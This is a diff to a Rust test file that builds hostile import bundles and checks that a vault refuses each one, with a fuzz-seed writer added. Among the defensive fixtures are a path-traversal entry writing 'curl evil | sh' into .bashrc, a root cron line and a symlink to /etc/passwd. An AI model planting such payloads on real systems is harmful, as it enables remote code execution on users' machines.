@@ -107,11 +107,27 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
     p.sign(&s.key);
     add("03-html-and-bidi-in-every-text-field", "ok", sealed(&p));
 
-    add("10-replay-of-an-older-bundle", "bundle_already_imported", first.clone());
+    add(
+        "10-replay-of-an-older-bundle",
+        "bundle_already_imported",
+        first.clone(),
+    );
     let other = age::x25519::Identity::generate().to_public();
-    add("11-wrong-recipient", "bundle_not_for_you", craft::encrypt(&craft::tar(&base().entries()), &[other]));
-    add("12-passphrase-encrypted", "bundle_not_for_you", craft::encrypt_with_passphrase(&craft::tar(&base().entries())));
-    add("13-plain-tar-not-encrypted", "bundle_damaged", craft::tar(&base().entries()));
+    add(
+        "11-wrong-recipient",
+        "bundle_not_for_you",
+        craft::encrypt(&craft::tar(&base().entries()), &[other]),
+    );
+    add(
+        "12-passphrase-encrypted",
+        "bundle_not_for_you",
+        craft::encrypt_with_passphrase(&craft::tar(&base().entries())),
+    );
+    add(
+        "13-plain-tar-not-encrypted",
+        "bundle_damaged",
+        craft::tar(&base().entries()),
+    );
     add("14-empty-file", "bundle_damaged", vec![]);
     for (name, at) in [
         ("15-truncated-in-age-header", 40),
@@ -120,12 +136,20 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
         ("18-truncated-in-attachment", valid.len() * 6 / 10),
         ("19-truncated-last-byte", valid.len() - 1),
     ] {
-        add(name, "bundle_damaged", valid[..at.min(valid.len())].to_vec());
+        add(
+            name,
+            "bundle_damaged",
+            valid[..at.min(valid.len())].to_vec(),
+        );
     }
     // A damaged recipient stanza cannot be told from a bundle for someone else.
     let mut flipped = valid.clone();
     flipped[30] ^= 0x01;
-    add("20-flipped-byte-in-recipient-stanza", "bundle_not_for_you", flipped);
+    add(
+        "20-flipped-byte-in-recipient-stanza",
+        "bundle_not_for_you",
+        flipped,
+    );
     let mut flipped = valid.clone();
     let mac = valid
         .windows(5)
@@ -145,17 +169,33 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
     let changed = text.replacen("2025-04-02", "2025-04-03", 1);
     let mut e = p.entries();
     e[0] = Entry::file("manifest.json", changed.into_bytes());
-    add("22-flipped-byte-in-manifest", "bundle_tampered", seal(&craft::tar(&e)));
+    add(
+        "22-flipped-byte-in-manifest",
+        "bundle_tampered",
+        seal(&craft::tar(&e)),
+    );
     p.sig = p.sig.map(|mut sig| {
         sig[10] = if sig[10] == b'a' { b'b' } else { b'a' };
         sig
     });
-    add("23-flipped-byte-in-signature", "bundle_tampered", sealed(&p));
-    add("24-flipped-byte-in-revisions", "bundle_tampered", with_entries(&|e| {
-        let i = e[2].data.len() / 2;
-        e[2].data[i] ^= 0x01;
-    }));
-    add("25-flipped-byte-in-attachment", "bundle_tampered", with_entries(&|e| e[3].data[100] ^= 0x01));
+    add(
+        "23-flipped-byte-in-signature",
+        "bundle_tampered",
+        sealed(&p),
+    );
+    add(
+        "24-flipped-byte-in-revisions",
+        "bundle_tampered",
+        with_entries(&|e| {
+            let i = e[2].data.len() / 2;
+            e[2].data[i] ^= 0x01;
+        }),
+    );
+    add(
+        "25-flipped-byte-in-attachment",
+        "bundle_tampered",
+        with_entries(&|e| e[3].data[100] ^= 0x01),
+    );
     let mut p = base();
     p.manifest["members"][0]["sha256"] = json!(craft::sha256_hex(b"something else"));
     p.sign(&s.key);
@@ -166,80 +206,137 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
     ));
     let mut p = base();
     p.revisions = craft::jsonl(&[forged, a1.clone()]);
-    add("27-revision-signed-by-another-key", "bundle_tampered", resigned(p));
+    add(
+        "27-revision-signed-by-another-key",
+        "bundle_tampered",
+        resigned(p),
+    );
     let mut edited = r1.clone();
     edited["state"]["summary"] = json!("changed after signing");
     let mut p = base();
     p.revisions = craft::jsonl(&[edited, a1.clone()]);
-    add("28-revision-changed-after-signing", "bundle_tampered", resigned(p));
+    add(
+        "28-revision-changed-after-signing",
+        "bundle_tampered",
+        resigned(p),
+    );
     let orphan = craft::testimony_revision(&s.key, T2, witness("HB-2", "x"), &[&"ab".repeat(32)]);
     let mut p = base();
     p.revisions = craft::jsonl(&[orphan]);
     p.blobs.clear();
-    add("29-revision-follows-unknown-parent", "bundle_tampered", resigned(p));
+    add(
+        "29-revision-follows-unknown-parent",
+        "bundle_tampered",
+        resigned(p),
+    );
     let mut p = base();
     p.manifest["recipients"] = json!([Sender::stranger(3).card().split(':').last()]);
     p.sign(&s.key);
-    add("30-made-for-someone-else-re-encrypted", "bundle_tampered", sealed(&p));
+    add(
+        "30-made-for-someone-else-re-encrypted",
+        "bundle_tampered",
+        sealed(&p),
+    );
 
-    add("31-member-not-in-manifest", "bundle_invalid", with_entries(&|e| {
-        e.push(Entry::file("notes.txt", b"hello".to_vec()))
-    }));
-    add("32-missing-member", "bundle_invalid", with_entries(&|e| {
-        e.pop();
-    }));
-    add("33-duplicate-member", "bundle_invalid", with_entries(&|e| {
-        let dup = Entry::file("revisions.jsonl", e[2].data.clone());
-        e.push(dup);
-    }));
-    add("34-dotdot-path", "bundle_invalid", with_entries(&|e| {
-        e.insert(3, Entry::file("../../.bashrc", b"curl evil | sh".to_vec()))
-    }));
-    add("35-absolute-path", "bundle_invalid", with_entries(&|e| {
-        e.insert(3, Entry::file("/etc/cron.d/amanat", b"* * * * * root sh".to_vec()))
-    }));
+    add(
+        "31-member-not-in-manifest",
+        "bundle_invalid",
+        with_entries(&|e| e.push(Entry::file("notes.txt", b"hello".to_vec()))),
+    );
+    add(
+        "32-missing-member",
+        "bundle_invalid",
+        with_entries(&|e| {
+            e.pop();
+        }),
+    );
+    add(
+        "33-duplicate-member",
+        "bundle_invalid",
+        with_entries(&|e| {
+            let dup = Entry::file("revisions.jsonl", e[2].data.clone());
+            e.push(dup);
+        }),
+    );
+    add(
+        "34-dotdot-path",
+        "bundle_invalid",
+        with_entries(&|e| e.insert(3, Entry::file("../../.bashrc", b"curl evil | sh".to_vec()))),
+    );
+    add(
+        "35-absolute-path",
+        "bundle_invalid",
+        with_entries(&|e| {
+            e.insert(
+                3,
+                Entry::file("/etc/cron.d/amanat", b"* * * * * root sh".to_vec()),
+            )
+        }),
+    );
     let mut p = base();
     let sha = craft::sha256_hex(&photo);
     p.manifest["members"][1]["path"] = json!(format!("blobs/../../{sha}"));
     p.sign(&s.key);
     add("36-dotdot-path-in-manifest", "bundle_invalid", sealed(&p));
-    add("37-symlink-member", "bundle_invalid", with_entries(&|e| {
-        e[3] = Entry {
-            name: e[3].name.clone(),
-            kind: tar::EntryType::Symlink,
-            data: vec![],
-            size: 0,
-            link: Some(b"/etc/passwd".to_vec()),
-        }
-    }));
-    add("38-hardlink-member", "bundle_invalid", with_entries(&|e| {
-        e[3] = Entry {
-            name: e[3].name.clone(),
-            kind: tar::EntryType::Link,
-            data: vec![],
-            size: 0,
-            link: Some(b"revisions.jsonl".to_vec()),
-        }
-    }));
-    add("39-directory-member", "bundle_invalid", with_entries(&|e| {
-        e.insert(3, Entry {
-            name: b"blobs/".to_vec(),
-            kind: tar::EntryType::Directory,
-            data: vec![],
-            size: 0,
-            link: None,
-        })
-    }));
+    add(
+        "37-symlink-member",
+        "bundle_invalid",
+        with_entries(&|e| {
+            e[3] = Entry {
+                name: e[3].name.clone(),
+                kind: tar::EntryType::Symlink,
+                data: vec![],
+                size: 0,
+                link: Some(b"/etc/passwd".to_vec()),
+            }
+        }),
+    );
+    add(
+        "38-hardlink-member",
+        "bundle_invalid",
+        with_entries(&|e| {
+            e[3] = Entry {
+                name: e[3].name.clone(),
+                kind: tar::EntryType::Link,
+                data: vec![],
+                size: 0,
+                link: Some(b"revisions.jsonl".to_vec()),
+            }
+        }),
+    );
+    add(
+        "39-directory-member",
+        "bundle_invalid",
+        with_entries(&|e| {
+            e.insert(
+                3,
+                Entry {
+                    name: b"blobs/".to_vec(),
+                    kind: tar::EntryType::Directory,
+                    data: vec![],
+                    size: 0,
+                    link: None,
+                },
+            )
+        }),
+    );
     let mut p = base();
     p.manifest["members"][1]["size"] = json!(1u64 << 63);
     p.sign(&s.key);
     add("40-declared-size-2-to-the-63", "bundle_invalid", sealed(&p));
-    add("41-tar-header-size-2-to-the-63", "bundle_invalid", with_entries(&|e| e[3].size = 1 << 62));
+    add(
+        "41-tar-header-size-2-to-the-63",
+        "bundle_invalid",
+        with_entries(&|e| e[3].size = 1 << 62),
+    );
     let empties: Vec<Vec<u8>> = (0..10_000).map(|_| vec![]).collect();
     let mut p = base();
     p.blobs = vec![];
     p.relist();
-    let mut members = p.manifest["members"].as_array().cloned().unwrap_or_default();
+    let mut members = p.manifest["members"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
     let mut entries = Vec::new();
     for i in 0..empties.len() {
         let sha = craft::sha256_hex(format!("{i}").as_bytes());
@@ -250,16 +347,28 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
     p.sign(&s.key);
     let mut all = p.entries();
     all.extend(entries);
-    add("42-ten-thousand-empty-members", "bundle_invalid", seal(&craft::tar(&all)));
+    add(
+        "42-ten-thousand-empty-members",
+        "bundle_invalid",
+        seal(&craft::tar(&all)),
+    );
     let mut p = base();
     p.manifest["version"] = json!(2);
     p.sign(&s.key);
-    add("43-unknown-format-version", "unsupported_version", sealed(&p));
+    add(
+        "43-unknown-format-version",
+        "unsupported_version",
+        sealed(&p),
+    );
     let mut p = base();
     p.manifest["format"] = json!("zip");
     p.sign(&s.key);
     add("44-not-a-bundle-manifest", "bundle_invalid", sealed(&p));
-    add("45-revisions-before-manifest", "bundle_invalid", with_entries(&|e| e.swap(0, 2)));
+    add(
+        "45-revisions-before-manifest",
+        "bundle_invalid",
+        with_entries(&|e| e.swap(0, 2)),
+    );
     let stranger = Sender::stranger(77);
     let mut p = base();
     p.manifest["exporter"] = json!(stranger.card());
@@ -296,16 +405,24 @@ fn cases(recipient: &age::x25519::Recipient, fp: &str) -> Vec<(String, &'static 
         plain.extend_from_slice(b"trailing data that is not padding");
         seal(&plain)
     });
-    add("51-manifest-larger-than-limit", "bundle_invalid", with_entries(&|e| e[0].size = 64 << 20));
+    add(
+        "51-manifest-larger-than-limit",
+        "bundle_invalid",
+        with_entries(&|e| e[0].size = 64 << 20),
+    );
     let mut p = base();
     p.revisions = b"this is not json\n".to_vec();
     p.blobs.clear();
     add("52-revisions-not-json", "bundle_invalid", resigned(p));
-    add("53-deeply-nested-manifest", "bundle_invalid", with_entries(&|e| {
-        let mut deep = "[".repeat(100_000);
-        deep.push_str(&"]".repeat(100_000));
-        e[0] = Entry::file("manifest.json", deep.into_bytes());
-    }));
+    add(
+        "53-deeply-nested-manifest",
+        "bundle_invalid",
+        with_entries(&|e| {
+            let mut deep = "[".repeat(100_000);
+            deep.push_str(&"]".repeat(100_000));
+            e[0] = Entry::file("manifest.json", deep.into_bytes());
+        }),
+    );
     out
 }
 
@@ -317,13 +434,19 @@ fn regenerate() {
     }
     let vault = fixture_vault();
     let _ = std::fs::remove_dir_all(&vault);
-    std::fs::create_dir_all(vault.parent().unwrap_or(Path::new("."))).unwrap_or_else(|e| panic!("{e}"));
-    let (mut v, _) = common::create(&vault);
-    v.add_contact(&Sender::corpus().card(), Some("Corpus sender"), ContactTrust::Organisation)
+    std::fs::create_dir_all(vault.parent().unwrap_or(Path::new(".")))
         .unwrap_or_else(|e| panic!("{e}"));
+    let (mut v, _) = common::create(&vault);
+    v.add_contact(
+        &Sender::corpus().card(),
+        Some("Corpus sender"),
+        ContactTrust::Organisation,
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
     let card = v.contact_card().unwrap_or_else(|e| panic!("{e}"));
     v.close().unwrap_or_else(|e| panic!("{e}"));
-    let recipient: age::x25519::Recipient = card.recipient().parse().unwrap_or_else(|e| panic!("{e}"));
+    let recipient: age::x25519::Recipient =
+        card.recipient().parse().unwrap_or_else(|e| panic!("{e}"));
     let dir = corpus_dir();
     let _ = std::fs::remove_dir_all(&dir);
     std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
@@ -333,6 +456,34 @@ fn regenerate() {
         tsv.push_str(&format!("{name}\t{code}\n"));
     }
     std::fs::write(dir.join("expected.tsv"), tsv).unwrap_or_else(|e| panic!("{e}"));
+    write_fuzz_seeds();
+}
+
+/// Plaintext bundles (what the fuzz target reads after decryption), addressed to the
+/// fingerprint the fuzz target uses: seeds for `make fuzz`.
+fn write_fuzz_seeds() {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus/bundle");
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
+    let s = Sender::corpus();
+    let to = ["00000-00000-00000-00000-00000".to_string()];
+    let photo = b"\x89PNG\r\n\x1a\nfuzz seed".to_vec();
+    let r1 = craft::testimony_revision(&s.key, T1, witness("HB-1", "first"), &[]);
+    let a1 = craft::attachment_revision(&s.key, A1, T1, BLOB, &photo);
+    let h1 = r1["hash"].as_str().unwrap_or_default().to_string();
+    let r2 = craft::testimony_revision(&s.key, T1, witness("HB-1", "second"), &[&h1]);
+    let seeds = [
+        (
+            "with-attachment",
+            Parts::new(&s, &to, 1, &[r1.clone(), a1], vec![photo]),
+        ),
+        ("two-revisions", Parts::new(&s, &to, 2, &[r1, r2], vec![])),
+    ];
+    for (name, mut p) in seeds {
+        p.sign(&s.key);
+        std::fs::write(dir.join(format!("{name}.tar")), craft::tar(&p.entries()))
+            .unwrap_or_else(|e| panic!("{e}"));
+    }
 }
 
 fn expected() -> Vec<(String, String)> {
@@ -369,7 +520,11 @@ fn every_hostile_bundle_is_refused_with_its_code_and_changes_nothing() {
                 // bundle seen before are reported rather than refused by a check).
                 if !matches!(want.as_str(), "unknown_sender" | "bundle_already_imported") {
                     let checked = v.verify_bundle(&path, &mut go);
-                    assert_eq!(checked.err().map(|e| e.code()), Some(want.as_str()), "{file}");
+                    assert_eq!(
+                        checked.err().map(|e| e.code()),
+                        Some(want.as_str()),
+                        "{file}"
+                    );
                 }
                 refused += 1;
             }
